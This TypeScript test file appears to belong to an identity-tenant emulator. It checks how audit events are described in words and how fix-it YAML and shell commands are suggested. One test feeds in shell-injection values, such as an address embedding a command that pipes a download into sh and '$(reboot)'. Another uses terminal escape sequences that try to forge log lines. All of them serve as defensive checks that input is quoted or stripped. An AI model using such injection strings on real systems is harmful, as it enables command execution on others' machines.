import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { stripVTControlCharacters } from "node:util";
import type { Activity } from "@doorcode/tenant/operator";
import { parse } from "yaml";
import type { Refusal } from "../../../tenant/src/directory/access-rules.ts";
import { protocolErrors } from "../../../tenant/src/oauth/protocol-error.ts";
import { AUDIT_EVENTS } from "../../../tenant/src/storage/audit-events.ts";
import { MENDS } from "../../../tenant/src/ui/console/refusal-mend.ts";
import { describeActivity } from "../../src/tenant/describe-activity.ts";
import { mends } from "../../src/tenant/mend.ts";
import { activityLines } from "../../src/tenant/show-activity.ts";

const ada: Activity = {
  ...{ at: "2026-11-30T12:00:00.000Z", event: "user.signed_in", actor: "user" },
  ...{ app: "ciam-client-app", app_key: "ciam-client-app", client_id: "a4e18d21-7d4b-4fa6-96fd-ea454720df92" },
  ...{ user: "ada@contoso.example", user_id: "1f0c8f3e-6a55-4a0e-9f43-6c7cf7d5cf3a", grant_id: null, ip: null },
  detail: {},
};

const textOf = (changes: Partial<Activity>) => {
  const { label, text } = describeActivity({ ...ada, ...changes });
  return `${label}: ${text}`;
};

const refusal = (why: string, message: string, changes: Partial<Activity> = {}) =>
  describeActivity({ ...ada, event: "request.refused", detail: { why, message }, ...changes });

describe("the activity of a tenant, in words", () => {
  test("says what happened at each step of a sign-in", () => {
    const device = { user_code: "BCDF-GHJK", device_name: "Kitchen TV", device_platform: "webOS" };
    const asked = { event: "device_grant.requested", user: null, user_id: null, detail: device, ip: "127.0.0.1" };
    assert.equal(
      textOf(asked),
      'code asked: ciam-client-app on "Kitchen TV, webOS", code BCDF-GHJK, from this computer',
    );
    const password = { detail: { method: "password" } };
    assert.equal(
      textOf({ ...password, ip: "::ffff:192.0.2.7" }),
      "signed in: ada@contoso.example with the password, from 192.0.2.7",
    );
    assert.equal(textOf({ ...password, ip: "::1" }), "signed in: ada@contoso.example with the password");
    assert.equal(textOf({ event: "device_grant.approved" }), "approved: ciam-client-app for ada@contoso.example");
    assert.equal(
      textOf({ event: "device_grant.approved", actor: "operator", detail: { second_factor: "operator" } }),
      "approved: ciam-client-app for ada@contoso.example, with a second factor, by the operator",
    );
    assert.equal(
      textOf({ event: "device_grant.denied", actor: "operator", user: null, user_id: null }),
      "declined: ciam-client-app, by the operator",
    );
    assert.equal(
      textOf({ event: "device_grant.redeemed" }),
      "tokens: ciam-client-app is signed in as ada@contoso.example",
    );
    assert.equal(textOf({ event: "refresh_token.rotated" }), "renewed: ciam-client-app for ada@contoso.example");
    const mail = { to: "ada@contoso.example", subject: "Your code" };
    assert.equal(textOf({ event: "mail.sent", detail: mail }), "mail: to ada@contoso.example: Your code");
    assert.equal(
      textOf({ event: "mail.sent", detail: { ...mail, code: "12345678" } }),
      "mail: to ada@contoso.example: the code is 12345678",
    );
  });

  test("has words for every event of the audit log, also through Microsoft Graph", () => {
    for (const event of AUDIT_EVENTS) {
      for (const name of [event, `graph.${event}`]) {
        const { label, text, tone } = describeActivity({ ...ada, event: name, detail: { why: "not_assigned" } });
        assert.match(`${label} ${text}`, /^[a-z]{4,}[a-z ]* \S.*[^.]$/, name);
        assert.doesNotMatch(text, /undefined|null|_/, name);
        assert.equal(label.length <= 11, true, name);
        if (/refused|failed|denied|reused/.test(event) && name === event) assert.equal(tone, "bad", name);
      }
    }
    assert.equal(textOf({ event: "graph.user_flow.created" }), "changed: user flow created, through Microsoft Graph");
  });

  test("of what the operator does with a tenant file, says so, and nothing of Microsoft Graph", () => {
    const by = { actor: "operator" as const, app: null, client_id: null, user: null, user_id: null };
    const token = (purpose?: string) =>
      textOf({ ...by, event: "operator_token.issued", detail: { uti: "u", ...(purpose && { purpose }) } });
    assert.deepEqual(
      [token(), token("export"), token("apply")],
      [
        "operator: got a token to administer the tenant",
        "operator: read the tenant as a file",
        "operator: began to apply a tenant file",
      ],
    );
    assert.equal(textOf({ ...by, event: "graph.organization.changed" }), "changed: tenant changed, by the operator");
  });

  test("a refusal on a page is a person's, and a program's otherwise", () => {
    const message = "The code that was entered is not known.";
    const of = (about: Partial<Activity>) =>
      refusal("user_code_unknown", message, { app: null, app_key: null, client_id: null, ...about }).text;
    const unknown = { user: null, user_id: null };
    assert.match(of(unknown), /^a person: The code/);
    assert.match(of({}), /^ada@contoso\.example: The code/);
    assert.match(of({ ...unknown, actor: "client" }), /^a program: The code/);
    assert.match(refusal("not_assigned", "No.").text, /^ciam-client-app: No/);
  });

  test("of deleted and unknown objects says that they are", () => {
    const gone = { app: null, app_key: null, user: null, event: "refresh_token.rotated" };
    assert.match(textOf(gone), /^renewed: the unknown app a4e18d21-\S+ for the deleted user 1f0c8f3e-/);
    const long = textOf({
      ...gone,
      event: "request.refused",
      client_id: "x".repeat(5_000),
      detail: { message: "No." },
    });
    assert.ok(long.length < 100, long);
  });

  test("mends what the console mends", () => {
    assert.deepEqual(Object.keys(mends).sort(), Object.keys(MENDS).sort());
  });

  test("adds to a refusal the lines of YAML or the command that would mend it", () => {
    const scope = refusal("scope_invalid", "Not valid: ToDoList.Delete is not a scope of api://f1d21f41.");
    assert.deepEqual(scope.mend, [
      "Add to doorcode.tenant.yaml, with the API's key for API:",
      ...["  apis:", "    API:", "      scopes:", "        ToDoList.Delete: { displayName: What it permits }"],
    ]);
    const consent = refusal("admin_consent", "An administrator must first consent to ToDoList.Read, ToDoList.Write.");
    assert.deepEqual(consent.mend.slice(1), [
      ...["  apps:", "    ciam-client-app:", "      permissions:"],
      ...["        - API/ToDoList.Read", "        - API/ToDoList.Write"],
    ]);
    const keyed = describeActivity(
      { ...ada, event: "request.refused", app_key: "the app: 1", detail: { why: "not_assigned", message: "No." } },
      "tenant/contoso.yaml",
    );
    assert.deepEqual(keyed.mend, [
      "Add to tenant/contoso.yaml:",
      ...["  apps:", '    "the app: 1":', "      assignedTo: [ada@contoso.example]"],
    ]);
    assert.deepEqual(refusal("user_disabled", "Disabled.").mend, [
      "Run: doorcode tenant users enable ada@contoso.example",
    ]);
    assert.deepEqual(refusal("administration_by_device_code", "No.").mend, [
      `Run: doorcode tenant apps allow-administration ${ada.client_id} --by-device-code`,
    ]);
    assert.deepEqual(refusal("code_unknown", "The authorization code is unknown.").mend, []);
    assert.deepEqual(refusal("constructor", "Not an own member.").mend, []);
  });

  test("quotes what a stranger chose: a shell runs none of it, and YAML reads a text", () => {
    const run = (user: string) => refusal("user_disabled", "Disabled.", { user }).mend[0];
    const enable = "Run: doorcode tenant users enable";
    const address = `\`curl\${IFS}evil.sh|sh\`@a.example`;
    assert.equal(run(address), `${enable} '${address}'`);
    assert.equal(run("$(reboot)@a.example"), `${enable} '$(reboot)@a.example'`);
    // Each shell ends quotes in its own way, and an address must be no option.
    for (const user of ["a'b|sh@a.example", "\u2019;sh@a.example", "a\\'b@a.example", "--data=x@a.example"]) {
      assert.equal(run(user), `${enable} EMAIL`, user);
    }
    assert.equal(
      refusal("secret_wrong", "Wrong.", { client_id: "$(reboot)" }).mend[0],
      "Run: doorcode tenant apps add-secret '$(reboot)'",
    );
    for (const app_key of ["null", "true", "No", "1e3", "- x", "a: b", "", "#x", "a]", '"']) {
      const { mend } = refusal("not_assigned", "No.", { app_key, user: "no" });
      const { apps } = parse(mend.slice(1).join("\n").replaceAll(/^ {2}/gm, ""));
      assert.deepEqual(apps, { [app_key]: { assignedTo: ["no"] } });
    }
    const scope = refusal("scope_invalid", "Not valid: null is not a scope of api://f1d21f41.").mend;
    assert.equal(scope.at(-1), '        "null": { displayName: What it permits }');
  });

  test("knows the names of the protocol and of the access rule, and no others", () => {
    const ofTheRule: Record<Refusal, boolean> = {
      ...{ user_unknown: false, user_disabled: true, app_unknown: true, app_disabled: false, grant_not_allowed: true },
      ...{ login_required: false, not_assigned: true, sign_in_method_required: true, second_factor_required: true },
      ...{ details_required: true, administrator_required: true, administration_not_allowed: true },
      ...{ scope_unavailable: true, consent_required: true },
    };
    const known = [
      ...Object.keys(protocolErrors),
      ...Object.keys(ofTheRule),
      "user_code_unknown",
      "password_limit",
      "fault",
    ];
    for (const name of Object.keys(mends)) assert.ok(known.includes(name), name);
    for (const [name, isMended] of Object.entries(ofTheRule)) assert.equal(Object.hasOwn(mends, name), isMended, name);
    assert.deepEqual(refusal("consent_required", "Something was withdrawn.").mend, []);
  });

  test("says how to end a fault that a tester asked for", () => {
    const { text, mend } = refusal("fault", "Injected fault: token answers 503.");
    assert.match(text, /Injected fault: token answers 503/);
    assert.match(mend.join("\n"), /doorcode tenant fault clear/);
  });

  test("shows no control characters of a name or a request", () => {
    const evil = "\u001b]0;owned\u0007\u202eapp\nforged: line";
    const described = [
      describeActivity({ ...ada, app: evil, event: "device_grant.approved" }),
      describeActivity({ ...ada, event: "device_grant.requested", detail: { device_name: evil } }),
      refusal("not_assigned", evil, { app_key: evil, user: evil }),
    ];
    for (const each of described) {
      const lines = activityLines(ada.at, each, { colours: false, width: 80 });
      for (const line of lines) assert.doesNotMatch(line, /\p{Cc}|\u202e/u);
      assert.equal(
        lines.some((line) => line.startsWith("forged")),
        false,
      );
    }
  });
});

describe("a line of activity on a terminal", () => {
  const described = refusal("user_disabled", "The account is disabled, and this sentence needs more than one line.");

  test("fits its width, and continues below its beginning", () => {
    const narrow = activityLines(ada.at, described, { colours: false, width: 80 });
    assert.equal(narrow.length, 3);
    for (const line of narrow) assert.ok(line.length <= 80, line);
    assert.match(narrow[0]!, /^\d\d:\d\d:\d\d refused {5}ciam-client-app: The account is disabled, /);
    assert.match(narrow[1]!, /^ {21}\S/);
    const wide = activityLines(ada.at, described, { colours: false, width: 120 });
    assert.equal(wide.length, 2);
  });

  test("is the same text with and without color", () => {
    const plain = activityLines(ada.at, described, { colours: false, width: 80 });
    const painted = activityLines(ada.at, described, { colours: true, width: 80 });
    assert.ok(painted[0]!.includes(`\u001b[33m${"refused"}`));
    assert.deepEqual(painted.map(stripVTControlCharacters), plain);
  });
});
